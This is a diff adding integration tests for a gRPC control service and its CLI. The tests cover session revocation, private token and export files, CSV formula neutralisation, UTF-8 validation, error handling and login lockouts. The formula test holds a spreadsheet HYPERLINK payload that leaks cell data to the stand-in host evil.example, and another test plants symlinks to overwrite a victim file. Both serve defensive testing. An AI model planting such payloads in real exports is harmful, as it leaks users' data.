@@ -1,5 +1,6 @@
 """Integration: rwgctl -> control (gRPC over TLS) -> a real redis-server."""
 import glob
+import json
 import os
 import re
 import subprocess
@@ -107,6 +108,57 @@ class ControlTest(rwgtest.TempDirTest):
         self.ctl.ok("passwd", password=ADMIN_PASSWORD, env={"RWG_NEW_PASSWORD": "new-pass-123"})
         self.assertIn("UNAUTHENTICATED", self.ctl.run("login", password=ADMIN_PASSWORD).stderr)
         self.ctl.ok("login", password="new-pass-123")
+
+    def test_change_password_revokes_the_other_sessions(self):
+        self.login()
+        with open(os.path.join(self.tmp, "cli", "token")) as f:
+            first = f.read().strip()
+        laptop = rwgtest.Rwgctl(self.control.grpc_address, self.certs["ca"],
+                                os.path.join(self.tmp, "laptop"))
+        laptop.ok("login", password=ADMIN_PASSWORD)
+        self.assertEqual(self.ctl.run("config", "get", "public_name",
+                                      env={"RWG_TOKEN": first}).returncode, 0)
+
+        laptop.ok("passwd", password=ADMIN_PASSWORD, env={"RWG_NEW_PASSWORD": "new-pass-123"})
+        # The session that changed the password goes on; every other one is revoked.
+        laptop.ok("config", "get", "public_name")
+        r = self.ctl.run("config", "get", "public_name", env={"RWG_TOKEN": first})
+        self.assertEqual(r.returncode, 1)
+        self.assertIn("UNAUTHENTICATED: token revoked: the password changed", r.stderr)
+        r = self.ctl.run("device", "list")  # the same session, from its token file
+        self.assertIn("UNAUTHENTICATED", r.stderr)
+        self.ctl.ok("login", password="new-pass-123")
+        self.ctl.ok("config", "get", "public_name")
+
+    def test_token_and_export_files_are_private(self):
+        # A link planted where rwgctl keeps its token is replaced, never written through.
+        os.makedirs(os.path.join(self.tmp, "cli"), mode=0o700)
+        victim = os.path.join(self.tmp, "victim")
+        with open(victim, "w") as f:
+            f.write("victim\n")
+        os.chmod(victim, 0o644)
+        token_file = os.path.join(self.tmp, "cli", "token")
+        os.symlink(victim, token_file)
+        old = os.umask(0)
+        try:
+            self.login()
+            self.ctl.ok("device", "add", "--set-username", "1001", "--set-password",
+                        "desk-1001-pw", "--icp-username", "21001", "--icp-password", "icp-1001")
+            export = os.path.join(self.tmp, "devices.csv")
+            os.symlink(victim, export)
+            self.ctl.ok("device", "export", "-f", export)
+        finally:
+            os.umask(old)
+        for path in (token_file, export):
+            self.assertFalse(os.path.islink(path), path)
+            self.assertEqual(os.stat(path).st_mode & 0o777, 0o600, path)
+        with open(victim) as f:
+            self.assertEqual(f.read(), "victim\n")
+        self.assertEqual(os.stat(victim).st_mode & 0o777, 0o644)
+        with open(export) as f:
+            self.assertIn('"desk-1001-pw"', f.read())
+        self.assertEqual(sorted(os.listdir(os.path.join(self.tmp, "cli"))), ["token"],
+                         "no temporary file left")
 
     # -- configuration ----------------------------------------------------------------------
 
@@ -296,6 +348,73 @@ class ControlTest(rwgtest.TempDirTest):
         self.login()
         self.assertEqual(resolve("FR/Lyon", "112"), "0472999112")
 
+    def test_export_neutralises_formulas_and_import_restores_them(self):
+        self.login()
+        formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
+        self.ctl.ok("device", "add", "--set-username", "1001", "--set-password=-desk-1001-pw",
+                    "--icp-username", "21001", "--icp-password=@icp-1001", "--description", formula, "--site", "+33 Paris", "--location", "FR/Paris")
+        exported = self.ctl.ok("device", "export")
+        row = exported.splitlines()[1]
+        self.assertEqual(row, '"1001","\'-desk-1001-pw","21001","\'@icp-1001",'
+                              '"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")",'
+                              '"","\'+33 Paris","FR/Paris","false"')
+        # No cell a spreadsheet would run: every data cell starts with a letter, digit or '.
+        for cell in re.findall(r'(?:^|,)"([^"]?)', row):
+            self.assertNotIn(cell, ("=", "+", "-", "@", "\t", "\r"), row)
+
+        # Imported back, the device is what it was.
+        before = self.ctl.json("device", "get", "1001", "--show-secrets")
+        self.ctl.ok("device", "delete", "1001")
+        path = os.path.join(self.tmp, "export.csv")
+        with open(path, "w") as f:
+            f.write(exported)
+        self.assertIn("1 created", self.ctl.ok("device", "import", path))
+        after = self.ctl.json("device", "get", "1001", "--show-secrets")
+        for field in ("set_password", "icp_password", "description", "site", "location"):
+            self.assertEqual(after[field], before[field], field)
+        self.assertEqual(after["description"], formula)
+        self.assertEqual(after["set_password"], "-desk-1001-pw")
+        self.assertIn("1 updated", self.ctl.ok("device", "import", "--replace", path))
+        self.assertEqual(self.ctl.json("device", "get", "1001")["description"], formula)
+
+    def test_invalid_utf8_is_refused_naming_row_and_column(self):
+        self.login()
+        path = os.path.join(self.tmp, "bad.csv")
+        with open(path, "wb") as f:
+            f.write(b"set_username,set_password,icp_username,icp_password,description,site\n"
+                    b"1001,desk-1001-pw,21001,icp-1001,Reception,Paris\n"
+                    b"1002,desk-1002-pw,21002,icp-1002,Desk \xc0\xaf,Paris\n"      # overlong
+                    b"1003,desk-1003-pw,21003,icp-1003,Desk,Lyon \xed\xa0\x80\n")  # surrogate
+        r = self.ctl.run("device", "import", path)
+        self.assertEqual(r.returncode, 1)
+        self.assertIn("INVALID_ARGUMENT", r.stderr)
+        self.assertIn("row 3, column description: is not valid UTF-8", r.stderr)
+        self.assertIn("row 4, column site: is not valid UTF-8", r.stderr)
+        self.assertEqual(self.device_count(), 0, "nothing of a refused file is stored")
+        self.assertEqual(self.redis.cmd("HLEN", "rwg:devices"), b":0\r\n")
+        self.ctl.ok("device", "list")
+
+    def test_a_handler_that_throws_answers_internal_and_control_keeps_running(self):
+        self.login()
+        # A damaged emergency route record (a number where a string belongs) makes the
+        # listing throw while reading it.
+        self.redis.cmd("HSET", "rwg:emergency", "FR\n112", '{"location": 5, "number": "112"}')
+        r = self.ctl.run("emergency", "list")
+        self.assertEqual(r.returncode, 1)
+        self.assertIn("rwgctl: INTERNAL: internal error in ListEmergencyRoutes; see the control "
+                      "log", r.stderr)
+        # A damaged hash key record is reported as such.
+        self.redis.cmd("SET", "rwg:hash", "[1]")
+        self.assertIn("DATA_LOSS: the stored hash key (rwg:hash) is damaged",
+                      self.ctl.run("hash", "show").stderr)
+        self.assertTrue(self.control.alive())
+        self.ctl.ok("config", "get")
+        self.assertIn('msg="rpc threw" method=ListEmergencyRoutes', self.control.read_log())
+        metrics = urllib.request.urlopen(self.control.metrics_url, timeout=5).read().decode()
+        self.assertIn('rwg_control_rpc_exceptions_total{method="ListEmergencyRoutes"} 1', metrics)
+        self.assertIn('rwg_control_rpcs_total{code="INTERNAL",method="ListEmergencyRoutes"} 1',
+                      metrics)
+
     def test_sso_mode_generates_set_side_passwords(self):
         self.login()
         self.ctl.ok("config", "set", "sso_mode=true")
@@ -412,6 +531,120 @@ class ControlTest(rwgtest.TempDirTest):
         self.assertIn("msg=terminating signal=SIGTERM", self.control.read_log())
 
 
+class DualStackControl(rwgtest.Service):
+    """control listening on every address, so that a test logs in from two sources:
+    127.0.0.1 and ::1. Plaintext gRPC."""
+
+    def start(self, expect_healthy=True):
+        port_file = os.path.join(self.workdir, f"{self.name}.ports")
+        if os.path.exists(port_file):
+            os.remove(port_file)
+        self.log = open(self.log_path, "ab")
+        self.proc = subprocess.Popen(
+            [os.path.join(rwgtest.BIN, "control"), "--grpc-listen", "[::]:0", "--metrics-listen",
+             "127.0.0.1:0", "--port-file", port_file] + self.args,
+            stdout=self.log, stderr=self.log)
+        rwgtest.wait_until("control port file",
+                           lambda: os.path.exists(port_file) or self.proc.poll() is not None)
+        if self.proc.poll() is not None:
+            raise AssertionError(f"control exited: {self.read_log()}")
+        with open(port_file) as f:
+            self.ports = json.load(f)
+        return self
+
+    def peak_memory_kib(self):
+        with open(f"/proc/{self.proc.pid}/status") as f:
+            return int(re.search(r"VmHWM:\s+(\d+) kB", f.read()).group(1))
+
+
+class LoginLimitsTest(rwgtest.TempDirTest):
+    """Password checks are bounded in number at once, and repeated failures lock the source
+    (IPv4 address, IPv6 /64) or the username out for a while."""
+
+    def start(self, *args):
+        data = os.path.join(self.tmp, "redis")
+        os.mkdir(data)
+        self.redis = rwgtest.Redis(data).start()
+        self.addCleanup(self.redis.kill)
+        key = os.path.join(self.tmp, "secret.key")
+        with open(key, "w") as f:
+            f.write(os.urandom(32).hex())
+        pw = os.path.join(self.tmp, "admin-password")
+        with open(pw, "w") as f:
+            f.write(ADMIN_PASSWORD)
+        self.control = DualStackControl("control", self.tmp, [
+            "--redis-address", f"127.0.0.1:{self.redis.port}", "--secret-key-file", key,
+            "--admin-password-file", pw, *args]).start()
+        self.addCleanup(self.control.stop)
+        port = self.control.ports["grpc"]
+        self.v4 = rwgtest.Rwgctl(f"127.0.0.1:{port}", "", os.path.join(self.tmp, "v4"))
+        self.v6 = rwgtest.Rwgctl(f"[::1]:{port}", "", os.path.join(self.tmp, "v6"))
+        for ctl in (self.v4, self.v6):
+            ctl.env["RWG_INSECURE"] = "1"
+        rwgtest.wait_until("control SERVING",
+                           lambda: self.v4.run("health").stdout.strip() == "SERVING")
+
+    def login(self, ctl, user, password):
+        r = ctl.run("login", "-u", user, password=password)
+        return r.stderr.strip() if r.returncode else "OK"
+
+    def metrics(self):
+        return urllib.request.urlopen(self.control.metrics_url, timeout=5).read().decode()
+
+    def test_parallel_wrong_logins_are_bounded(self):
+        self.start("--login-source-failures", "1000", "--login-user-failures", "1000")
+        self.assertEqual(self.login(self.v4, "admin", ADMIN_PASSWORD), "OK")
+        before = self.control.peak_memory_kib()
+        procs = [subprocess.Popen([os.path.join(rwgtest.BIN, "rwgctl"), "login", "-u",
+                                   f"guess{i}"],
+                                  env=dict(self.v4.env, RWG_PASSWORD="wrong-password"),
+                                  stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+                 for i in range(16)]
+        errors = [p.communicate(timeout=60)[1].strip() for p in procs]
+        busy = [e for e in errors if "RESOURCE_EXHAUSTED: busy: 2 password checks" in e]
+        wrong = [e for e in errors if "UNAUTHENTICATED: wrong username or password" in e]
+        self.assertEqual(len(busy) + len(wrong), 16, errors)
+        self.assertGreater(len(busy), 0, "16 checks at once: the ones beyond 2 are refused")
+        grown = self.control.peak_memory_kib() - before
+        self.assertLess(grown, 100 * 1024, "at most two 32 MiB checks at once")
+        self.assertIn(f'rwg_control_login_refusals_total{{reason="busy"}} {len(busy)}',
+                      self.metrics())
+        self.assertEqual(self.login(self.v4, "admin", ADMIN_PASSWORD), "OK")
+        self.assertTrue(self.control.alive())
+
+    def test_lockout_by_source_and_by_username(self):
+        self.start("--login-user-failures", "3", "--login-lockout-seconds", "8")
+        wrong = "UNAUTHENTICATED: wrong username or password"
+        # Three failures for a name that does not exist lock that name out, from anywhere.
+        for _ in range(3):
+            self.assertIn(wrong, self.login(self.v4, "nobody", "guess"))
+        self.assertIn("RESOURCE_EXHAUSTED: too many failed logins for this username",
+                      self.login(self.v4, "nobody", "guess"))
+        self.assertIn("for this username", self.login(self.v6, "nobody", "guess"))
+        # Two more from 127.0.0.1 (five in all) lock that address out, the right password too.
+        for _ in range(2):
+            self.assertIn(wrong, self.login(self.v4, "admin", "guess"))
+        locked = self.login(self.v4, "admin", ADMIN_PASSWORD)
+        self.assertRegex(locked, r"RESOURCE_EXHAUSTED: too many failed logins from this "
+                                 r"address; try again in \d+s")
+        # The admin logs in from another address meanwhile.
+        self.assertEqual(self.login(self.v6, "admin", ADMIN_PASSWORD), "OK")
+        self.v6.ok("config", "get", "public_name")
+        # After the back-off the address is let in again.
+        rwgtest.wait_until("the lockout ends", lambda: self.login(
+            self.v4, "admin", ADMIN_PASSWORD) == "OK", timeout=30)
+        self.v4.ok("config", "get", "public_name")
+
+        m = self.metrics()
+        self.assertIn('rwg_control_login_lockouts_total{scope="source"} 1', m)
+        self.assertIn('rwg_control_login_lockouts_total{scope="user"} 1', m)
+        self.assertIn('rwg_control_login_refusals_total{reason="user_locked"} 2', m)
+        self.assertRegex(m, r'rwg_control_login_refusals_total\{reason="source_locked"\} [1-9]')
+        self.assertIn("rwg_control_login_failures_total 5", m)
+        self.assertIn('rwg_control_login_tracked{table="user"}', m)
+        self.assertNotIn(ADMIN_PASSWORD, self.control.read_log())
+
+
 class FirstStartTest(rwgtest.TempDirTest):
     """Without a configured admin password, control generates one, once."""
 
@@ -427,9 +660,17 @@ class FirstStartTest(rwgtest.TempDirTest):
         control = rwgtest.Service("control", self.tmp, [
             "--redis-address", f"127.0.0.1:{redis.port}", "--secret-key-file", key,
             "--initial-admin-password-out", out])
-        control.start()
+        old = os.umask(0)  # the worst umask: the file must still be the owner's only
+        try:
+            control.start()
+        finally:
+            os.umask(old)
         self.addCleanup(control.stop)
         rwgtest.wait_until("password file", lambda: os.path.exists(out))
+        self.assertEqual(os.stat(out).st_mode & 0o777, 0o600)
+        self.assertEqual(os.listdir(self.tmp).count("initial-password"), 1)
+        self.assertFalse([f for f in os.listdir(self.tmp) if f.startswith("initial-password.")],
+                         "no temporary file left")
         with open(out) as f:
             password = f.read().strip()
         self.assertGreaterEqual(len(password), 20)
@@ -445,6 +686,27 @@ class FirstStartTest(rwgtest.TempDirTest):
         rwgtest.wait_until("SERVING", lambda: ctl.run("health").stdout.strip() == "SERVING")
         self.assertFalse(os.path.exists(out), "no second password")
         ctl.ok("login", password=password)
+
+    def test_an_unwritable_password_file_is_reported(self):
+        data = os.path.join(self.tmp, "redis")
+        os.mkdir(data)
+        redis = rwgtest.Redis(data).start()
+        self.addCleanup(redis.kill)
+        key = os.path.join(self.tmp, "secret.key")
+        with open(key, "w") as f:
+            f.write(os.urandom(32).hex())
+        out = os.path.join(self.tmp, "no-such-dir", "initial-password")
+        control = rwgtest.Service("control", self.tmp, [
+            "--redis-address", f"127.0.0.1:{redis.port}", "--secret-key-file", key,
+            "--initial-admin-password-out", out]).start()
+        self.addCleanup(control.stop)
+        rwgtest.wait_until("the error logged",
+                           lambda: "its password could not be written" in control.read_log())
+        log = control.read_log()
+        self.assertIn("HDEL rwg:admins <user>", log)
+        self.assertIn(f"cannot write {out}", log)
+        self.assertFalse(os.path.exists(os.path.dirname(out)))
+        self.assertTrue(control.alive())
 
     def test_refuses_to_start_without_a_usable_secret_key(self):
         key = os.path.join(self.tmp, "bad.key")
